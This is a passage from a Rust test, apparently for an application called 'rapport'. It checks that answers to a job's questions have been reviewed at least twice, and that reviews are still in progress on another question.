    assert!(!between.contains("not enough answers yet") && !between.contains("same grade"));
    let (questions, reviews) = app
        .db
        .read({
            let j = job_id.clone();
            move |c| {
                let qs = rapport::flows::review::job_questions(c, &j)?;
                let ids: Vec<String> = qs
                    .iter()
                    .flat_map(|q| q.answers.iter().map(|a| a.id.clone()))
                    .collect();
                let reviews = rapport::db::reviews::for_answers(c, &ids)?;
                Ok::<_, rapport::db::DbError>((qs, reviews))
            }
        })
        .await
        .unwrap();
    let twice = |q: &rapport::flows::review::ReviewQuestion| {
        q.answers
            .iter()
            .filter(|a| reviews.iter().filter(|r| r.answer_id == a.id).count() >= 2)
            .count()
    };
    assert!(twice(&questions[0]) >= 10, "{}", twice(&questions[0]));
    assert!(
        questions[1..].iter().any(|q| {
            let some = q
                .answers
                .iter()
                .any(|a| reviews.iter().any(|r| r.answer_id == a.id));
            some && twice(q) < q.answers.len()
        }),
        "reviews in progress on another question"
    );
}
